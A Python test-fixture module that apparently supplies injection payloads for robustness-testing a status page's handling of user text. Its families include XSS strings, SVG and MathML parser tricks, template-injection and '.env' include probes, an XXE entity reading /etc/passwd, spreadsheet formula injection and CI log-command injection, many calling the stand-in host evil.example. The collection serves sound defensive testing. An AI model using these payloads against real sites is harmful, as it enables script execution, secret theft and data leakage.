"""What strangers may write: a short list of our own, each family of tricks once or a few times.

`everything` adds the long lists, which are not part of the project, where `STATUSPAGE_SHARED` says
where they are.
"""

import json
import os
from collections.abc import Mapping, Sequence
from pathlib import Path

FAMILIES: Mapping[str, Sequence[str]] = {
    "plain": ["plainwords that stay as they are"],
    "script": [
        "<script>alert('own-1')</script>",
        '"><script>alert(2)</script><i title="',
        "<scr<script>ipt>alert(3)</scr</script>ipt>",
        "<SCRIPT/x src=//evil.example/3.js></SCRIPT>",
        "</title></textarea></style><script>alert(4)</script>",
        "<!--><script>alert(5)</script>-->",
        "<script\n>alert(6)//\n",
    ],
    "event handlers": [
        "<img src=x onerror=alert(10)>",
        "' onmouseover='alert(11)' autofocus onfocus='alert(11)' x='",
        '" onfocus="alert(12)" autofocus tabindex="0" x="',
        "<b onclick=alert(13) contenteditable>b</b><details open ontoggle=alert(13)>x</details>",
        "<body onload=alert(14)><input autofocus onfocus=alert(14)>",
        "<video src=x onerror=alert(15)></video><audio src=//evil.example/a onloadstart=alert(15)>",
        "` onerror=alert(16) `",
    ],
    "addresses that run": [
        "[press here](javascript:alert(20))",
        "[here](JaVa\tScRiPt:alert(21)) <a href=' &#1; jAvAsCrIpT&colon;alert(21)'>or here</a>",
        '<a href="&#106;&#x61;vascript&#x3a;alert(22)">a</a> <javascript:alert(22)>',
        "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgyMyk8L3NjcmlwdD4=)",
        "![p](data:image/svg+xml,%3Csvg%20onload=alert(24)%3E) [v](vbscript:msgbox(24))",
        '<form action="javascript:alert(25)"><button formaction=javascript:alert(25)>go</button></form>',
        "[f](file:///etc/passwd) [p](//evil.example/x) ![q](//evil.example/q.png) [b](blob:x)",
    ],
    "pictures": [
        "![far](https://evil.example/p.png) ![far too](HTTP:\\\\evil.example\\p.png)",
        "![a](/\\evil.example/p.png) ![b](\\\\evil.example/p.png)",
        '<img src="/&#9;/evil.example/p.png" srcset="//evil.example/s 2x"><img src="&#3;//evil.example">',
        '![<script>alert(30)</script>](https://evil.example/a.png "<table><img src=x onerror=alert(30)>")',
        '<img alt=">" src="https://evil.example/b.png"><picture><source srcset=//evil.example/c>',
    ],
    "svg": [
        "<svg onload=alert(40)><script>alert(40)</script></svg>",
        "<svg><a xlink:href='javascript:alert(41)'><text y=20>x</text></a></svg>",
        "<svg><animate attributeName=href values=javascript:alert(42) /><use href=//evil.example#x>",
        "<svg><foreignObject><iframe srcdoc='<script>alert(43)</script>'></foreignObject></svg>",
    ],
    "mathml and what parsers disagree on": [
        "<math><maction xlink:href=javascript:alert(50)>x</maction></math>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(51)&gt;'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(52)>",
        "<noscript><p title='</noscript><img src=x onerror=alert(53)>'></noscript>",
        "<a title='<table><img src=x onerror=alert(54)>' href='https://acme.example/'>x</a>",
    ],
    "style": [
        "<style>@import '//evil.example/s.css'; * { background: url(//evil.example/b) }</style>",
        "<p style='background:url(//evil.example/p);width:expression(alert(60))'>x</p>",
        "<link rel=stylesheet href=//evil.example/l.css><link rel=prefetch href=//evil.example/f>",
    ],
    "pages within and away": [
        "<iframe srcdoc='<script>parent.alert(70)</script>'></iframe>",
        "<iframe src=javascript:alert(71)></iframe><object data=//evil.example/o></object>",
        "<meta http-equiv=refresh content='0;url=//evil.example/'><base href=//evil.example/>",
        "0;url=javascript:alert(73)",
        "<embed src=//evil.example/e><frameset onload=alert(74)><plaintext>",
        "<template><img src=x onerror=alert(75)></template><xmp><img src=x onerror=alert(75)></xmp>",
        '<div id="sp-words">{}</div><a id="sp-moved" href="//evil.example">x</a><img name=body>',
    ],
    "templates": [
        "{{ 41006 + 1 }} {{ config.__class__.__init__.__globals__ }} ${{ 41006 + 1 }}",
        "{% include '.env' %} {% raw %} {# gone #} {%- endblock %}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    ],
    "snippets": [
        '--8<-- ".env"',
        "--8<--\n.env\nincidents/statuspage.yml\n--8<--",
        ';--8<-- ".env"\n\n{!.env!}\n\n{{ include(".env") }} !include .env',
    ],
    "markdown": [
        "[a]: javascript:alert(80)\n[b]: <data:text/html,x> 'x'\n\n[a] [b] [c][a]",
        "*[HTML]: \"><script>alert(81)</script>\n\nHTML {: onclick=alert(81) #title .x style='x' }",
        "```html onload=alert(82)\n</code></pre><script>alert(82)</script>\n```",
        "<https://acme.example/\"onmouseover='alert(83)'> [x](<https://acme.example/ onclick=alert(83)>)",
        "| <img src=x onerror=alert(84)> | b |\n|---|---|\n| `<script>` | <b>x |",
        "# A heading {#headline onclick=alert(85)}\n\n<h2 id=content>x</h2>\n\n- [ ] <li onclick=alert(85)>",
        "`<script>alert(86)</script>` \\<script>alert(86)\\</script> &lt;script&gt;alert(86)&lt;/script&gt;",
    ],
    "ends of what it stands in": [
        "</script><script>alert(90)</script>",
        "]]><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(91)</x:script><![CDATA[",
        '\\u003c/script\\u003e</SCRIPT ><!--<script> \\" \\',
        "--></svg></title></desc><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e; &amp;#x3c;",
        "?>]]>&#0;&#x1b;[2J&#x202e;&#xd800;&#x110000; &nosuch; &lt",
    ],
    "calendars and tables": [
        "x\\nEND:VEVENT\\nBEGIN:VALARM\\nACTION:PROCEDURE;ATTACH=//evil.example",
        "a;b,c\\;d:e\"f'g\\\\" + "0123456789" * 8 + " folded",
        '=HYPERLINK("//evil.example","x")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ],
    "hosts": [
        "/* https://evil.example/ 301!",
        "/*\\n  Set-Cookie: a=b",
        "../../index con.txt %2e%2e%2f",
    ],
    "terminals and logs": [
        "[/] [red]x[/red] [link=https://evil.example]y[/link] :boom:",
        "::stop-commands::endless ::add-mask::a %0A::error::x",
        "##[add-mask]acme ##vso[task.setvariable]x",
    ],
}
"""By what they try. The number in `alert(N)` is only there to tell them apart."""

MANY_LINES = [
    "One\r\nEND:VEVENT\r\nX-EVIL:1",
    "first\n\n::stop-commands::x\n::error file=a::b\n  ::add-mask::c",
    "first\n=1+1\n@x\n\tindented",
    "---\ntitle: another\n---\n{: }\n<<<<<<<\n",
]
"""What only a text of several lines can hold."""


def payloads() -> list[str]:
    """Give our own list."""
    return [payload for family in FAMILIES.values() for payload in family] + MANY_LINES


def shared(name: str) -> Sequence[object]:
    """Give one of the long lists, or nothing."""
    folder = os.environ.get("STATUSPAGE_SHARED")
    if not folder:
        return []
    for path in (Path(folder) / "data" / "robustness" / name, Path(folder) / "robustness" / name):
        if path.is_file():
            found = json.loads(path.read_text(encoding="utf-8"))
            assert isinstance(found, list)
            return found
    return []


def shared_payloads() -> list[str]:
    """Give the long list of payloads that try to run."""
    return [str(one["payload"]) for one in shared("html_payloads.json") if isinstance(one, dict)]


def naughty_strings() -> list[str]:
    """Give the long list of strings that programs stumble over."""
    return [str(one) for one in shared("naughty_strings.json")]
